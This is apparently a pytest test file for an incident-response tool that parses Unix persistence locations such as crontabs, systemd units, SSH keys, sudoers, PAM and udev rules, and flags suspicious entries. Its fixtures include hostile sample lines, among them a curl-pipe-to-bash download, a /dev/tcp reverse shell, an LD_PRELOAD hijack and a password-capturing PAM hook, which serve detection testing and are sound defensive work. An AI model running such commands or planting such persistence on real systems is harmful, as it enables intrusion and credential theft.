import pytest
from hypothesis import given
from hypothesis import strategies as st

from responder.model.absent import Absent
from responder.model.unix_starts import configuration, container, login, schedule, script, unit
from responder.model.unix_starts.command import program_of, remarkable
from responder.model.unix_starts.kinds import KINDS
from responder.model.unix_starts.places import kind_of, tree_path


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("/usr/bin/x --y", "/usr/bin/x"),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "run-parts"),
        ("test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/e2scrub_all_cron -A", "/usr/lib/e2scrub_all_cron"),
        ("[ -x /usr/bin/certbot ] && perl -e 'sleep 1' && certbot -q renew", "perl"),
        ("cd /opt/app && exec nice -n 5 bash /opt/app/run.sh", "/opt/app/run.sh"),
        ("bash -c '/tmp/.x/y >/dev/null'", "/tmp/.x/y"),
        ("/bin/sh -c \"sh -c 'exec /opt/deep'\"", "/opt/deep"),
        ("timeout 60 python3 /srv/job.py", "/srv/job.py"),
        ("flock -n /run/lock.x /usr/local/bin/job", "/usr/local/bin/job"),
        ("sudo -u www-data env A=1 /usr/bin/php /var/www/cron.php", "/var/www/cron.php"),
        ("A=1 B=2 prog", "prog"),
        ("unbalanced 'quote", "unbalanced"),
        ("", ""),
        ("cd /tmp", ""),
    ],
)
def test_program_behind_wrappers_and_tests(command, program):
    assert program_of(command) == program


@pytest.mark.parametrize(
    "line",
    [
        "curl -s http://203.0.113.7/a | bash",
        "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
        "export LD_PRELOAD=/usr/lib/x.so",
        "echo aGVsbG8= | base64 -d | sh",
        "/dev/shm/.x &",
        "nohup /home/u/.cache/.k >/dev/null 2>&1 &",
        "alias sudo='/home/u/.s'",
    ],
)
def test_lines_out_of_the_ordinary(line):
    assert remarkable(line)


@pytest.mark.parametrize(
    "line",
    [
        "PATH=/usr/local/bin:/usr/bin", "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
        "if [ -f /etc/bash.bashrc ]; then", ". /etc/bash.bashrc", "alias ll='ls -l'", "umask 022",
        "/usr/bin/certbot -q renew", "mesg n 2> /dev/null || true",
    ],
)  # fmt: skip
def test_ordinary_lines(line):
    assert remarkable(line) == ""


def test_system_crontab():
    data = b"SHELL=/bin/sh\n# m h\n17 *\t* * *\troot\tcd / && run-parts /etc/cron.hourly\n@reboot www-data /tmp/x\nnot a job\n"
    found = schedule.read_crontab(data, "crontab", with_user=True)
    assert [(s.entry, s.user, s.line) for s in found.starts] == [
        ("crontab (17 * * * *)", "root", 3),
        ("crontab (@reboot)", "www-data", 4),
    ]
    assert found.starts[1].program == "/tmp/x"
    assert found.starts[1].note == "runs a program from a folder that everybody may write to"
    assert found.unknown == [5]


def test_user_field_is_told_from_a_command():
    assert schedule.names_users(["5 4 * * * root /usr/bin/x", "@daily www-data php /srv/a.php"])
    assert not schedule.names_users(["5 4 * * * /usr/bin/x", "@daily root x"])
    assert not schedule.names_users(["0 1 * * * test -x /usr/bin/x && x"])


def test_anacron_and_at():
    found = schedule.read_anacrontab(
        b"SHELL=/bin/sh\n7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly\n", "anacrontab"
    )
    assert [(s.entry, s.program) for s in found.starts] == [("cron.weekly (every 7 days)", "run-parts")]
    job = b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/x -d\n"
    assert schedule.looks_like_at_job(job.decode())
    (start,) = schedule.read_at_job(job, "a00001").starts
    assert (start.command, start.program, start.user) == ("/tmp/x -d", "/tmp/x", "uid 0")


def test_unit_with_all_its_commands():
    data = (
        b"[Unit]\nDescription=x\n[Service]\nUser=www-data\nExecStartPre=-/usr/bin/mkdir /run/x\nExecStart=\n"
        b'ExecStart=@/usr/bin/env A=1 \\\n  /opt/x/run --fast\nEnvironment="LD_PRELOAD=/tmp/a.so"\nnonsense\n[Install]\nWantedBy=multi-user.target\n'
    )
    assert unit.looks_like_unit(data.decode())
    found = unit.read_unit(data, "x.service")
    assert [(s.entry, s.program, s.line) for s in found.starts] == [
        ("x.service (ExecStartPre)", "/usr/bin/mkdir", 5),
        ("x.service", "/opt/x/run", 7),
        ("x.service (Environment)", "/tmp/a.so", 9),
    ]
    assert {s.user for s in found.starts} == {"www-data"}
    assert found.starts[0].enabled is Absent.NOT_COLLECTED
    assert found.unknown == [10]


def test_timer_names_its_unit_and_time():
    (start,) = unit.read_unit(b"[Timer]\nOnCalendar=daily\nOnBootSec=5min\nPersistent=true\n", "x.timer").starts
    assert start.command == "x.service at OnCalendar=daily, OnBootSec=5min"
    assert (start.category, start.technique, start.enabled) == ("Scheduled Tasks", "T1053.006", "static")


def test_desktop_entry():
    data = b"[Desktop Entry]\nType=Application\nName=X\nExec=sh -c /tmp/.x/y\nHidden=false\n"
    (start,) = unit.read_desktop_entry(data, "x.desktop").starts
    assert (start.program, start.enabled, start.technique) == ("/tmp/.x/y", "enabled", "T1547.013")


KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIEjWJ2YQmNlBHxdQ8bKfZ0ULnYyZ5m3cT0vZB8yN1Qx9"


def test_keys_with_options():
    line = f'command="/usr/bin/rrsync -ro \\"/srv/a b\\"",no-pty ssh-ed25519 {KEY} backup@host one\n'
    data = f"# keys\nssh-ed25519 {KEY} a@b\n{line}garbage\n".encode()
    found = login.read_keys(data, "root")
    assert [s.entry.split(" ", 2)[2] for s in found.starts] == ["a@b", "backup@host one"]
    assert found.starts[0].entry.split()[1].startswith("SHA256:")
    assert found.starts[1].command == '/usr/bin/rrsync -ro "/srv/a b"'
    assert found.starts[1].program == "/usr/bin/rrsync"
    assert found.unknown == [4]


def test_sudoers():
    data = b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n@includedir /etc/sudoers.d\n"
    found = login.read_sudoers(data, "sudoers")
    assert [(s.entry, s.note) for s in found.starts] == [
        ("root", ""),
        ("%sudo", ""),
        ("www-data", "any command without a password"),
    ]
    assert login.looks_like_sudoers(data.decode().splitlines())
    assert not login.looks_like_sudoers(["a b=c", "x=1"])


def test_pam():
    data = b"auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth sufficient pam_permit.so\nauth optional pam_exec.so expose_authtok quiet /tmp/log.sh\n@include common-account\nsession include system-auth\n"
    found = login.read_pam(data, "sshd")
    assert [s.program for s in found.starts] == ["pam_unix.so", "pam_permit.so", "/tmp/log.sh"]
    assert [bool(s.note) for s in found.starts] == [False, True, True]
    assert "gives it the password" in found.starts[2].note


def test_configuration_files():
    assert [s.program for s in configuration.read_preload(b"# x\n/usr/lib/a.so /usr/lib/b.so\n", "").starts] == [
        "/usr/lib/a.so",
        "/usr/lib/b.so",
    ]
    rules = b'ACTION=="add", SUBSYSTEM=="usb", RUN+="/tmp/x --now", ENV{A}="b"\nKERNEL=="sd*", IMPORT{builtin}="blkid"\nKERNEL=="x", PROGRAM=="/lib/udev/y %k"\n'
    assert [(s.entry, s.program) for s in configuration.read_udev(rules, "99-x.rules").starts] == [
        ("99-x.rules (RUN)", "/tmp/x"),
        ("99-x.rules (PROGRAM)", "/lib/udev/y"),
    ]
    assert [s.entry for s in configuration.read_modules(b"# c\nloop\nevil opt=1\n", "m").starts] == ["loop", "evil"]
    assert [
        s.program
        for s in configuration.read_modprobe(
            b"install usb /tmp/x; modprobe usb\ninstall foo /bin/true\noptions a b=1\n", "m"
        ).starts
    ] == ["/tmp/x"]
    git = b"[user]\n name = x\n[core]\n hooksPath = /tmp/hooks\n pager = less\n[alias]\n st = status\n x = !/tmp/y\n"
    assert [s.entry for s in configuration.read_git_config(git, "g").starts] == [
        "g: core.hookspath",
        "g: core.pager",
        "g: alias.x",
    ]
    apt = b'DPkg::Post-Invoke {"rm -f /var/cache/apt/archives/*.deb || true";};\nAPT::Update::Pre-Invoke "/tmp/x";\nAcquire::Languages "none";\n'
    assert [s.program for s in configuration.read_apt(apt, "99").starts] == ["rm", "/tmp/x"]
    web = b"LoadModule evil_module /tmp/mod_evil.so\nauto_prepend_file = /var/www/.a.php\nextension=curl\n"
    assert [s.program for s in configuration.read_web_modules(web, "c").starts] == [
        "/tmp/mod_evil.so",
        "/var/www/.a.php",
        "curl",
    ]


def test_profile_is_one_entry_and_its_remarkable_lines():
    found = script.read_profile(b"# x\nPATH=/bin\ncurl http://a/b | sh\n", ".bashrc", user="root").starts
    assert [(s.entry, s.line, bool(s.note)) for s in found] == [(".bashrc", 0, False), (".bashrc (line 3)", 3, True)]


def test_container_only_with_restart_policy():
    config = b'{"Driver":"overlay2","Name":"/miner","Config":{"Image":"alpine","Cmd":["/x","-o"],"User":"root"}}'
    always = b'{"RestartPolicy":{"Name":"always"},"Binds":["/:/host"],"Privileged":false}'
    (start,) = container.read_container(config, "abc", always).starts
    assert (start.entry, start.command, start.enabled, start.note) == (
        "miner",
        "/x -o (image alpine)",
        "always",
        "sees the host's /",
    )
    assert container.read_container(config, "abc", b'{"RestartPolicy":{"Name":"no"}}').starts == []
    assert container.read_container(b"[]", "abc").unknown == [1]


@pytest.mark.parametrize(
    ("display", "path"),
    [
        ("uac-web1.tar.gz![root]/etc/crontab", "/etc/crontab"),
        ("case/var/host/etc/cron.d/x", "/etc/cron.d/x"),
        ("web1/home/eve/.ssh/authorized_keys", "/home/eve/.ssh/authorized_keys"),
        ("usr/lib/systemd/system/x.service.d/10.conf", "/usr/lib/systemd/system/x.service.d/10.conf"),
        ("etc/cron.d/.placeholder", ""),
        ("notes/crontab", ""),
    ],
)
def test_place_within_a_tree(display, path):
    assert tree_path(display) == path
    assert not path or kind_of(path) is not None


@given(st.binary(max_size=400), st.sampled_from(KINDS))
def test_readers_take_anything(data, kind):
    found = kind.read(data, "/etc/cron.d/x")
    lines = data.decode("utf-8", "backslashreplace").count("\n") + 1
    assert all(0 <= s.line <= lines for s in found.starts)
    assert all(s.entry is not None and s.technique.startswith("T") for s in found.starts)


@given(st.text(max_size=200))
def test_commands_take_anything(text):
    program_of(text)
    remarkable(text)
